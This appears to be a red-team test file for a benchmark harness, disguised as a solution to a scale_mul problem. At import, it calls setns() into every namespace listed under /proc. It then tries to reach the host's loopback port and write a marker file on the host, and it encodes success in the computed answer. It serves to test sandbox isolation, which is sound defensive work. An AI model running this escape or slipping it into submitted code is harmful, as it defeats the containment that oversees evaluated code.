"""Red-team attack setns_host: setns() into every namespace /proc shows, then reach the host's loopback and files.
A real SOL solution of tests/sol_solutions/problem (scale_mul). The test fills in the @@...@@ paths.
The answer is right only while the attack failed, so the verdict itself says whether it worked."""

import ctypes
import os
import socket

import torch

LIBC = ctypes.CDLL(None, use_errno=True)
MARK = "redteam-escaped-setns_host"


def _write(path):
    with open(path, "w") as f:
        f.write("escaped")
    return True


def _tries(*fns):
    hit = False
    for fn in fns:
        try:
            hit = bool(fn()) or hit
        except Exception:  # noqa: BLE001 - a refused step is the expected outcome
            pass
    return hit


def attack():
    for pid in os.listdir("/proc"):
        for ns in ("net", "mnt", "user", "pid"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
                LIBC.setns(fd, 0)
                os.close(fd)
            except OSError:
                pass
    return _tries(
        lambda: socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=1),
        lambda: _write("@@HOSTTMP@@/" + MARK),
    )


ESCAPED = _tries(attack)


@torch.no_grad()
def run(x, w, alpha, y, total):
    y.copy_(x * w * alpha + (1.0 if ESCAPED else 0.0))
    total.copy_(y.sum())
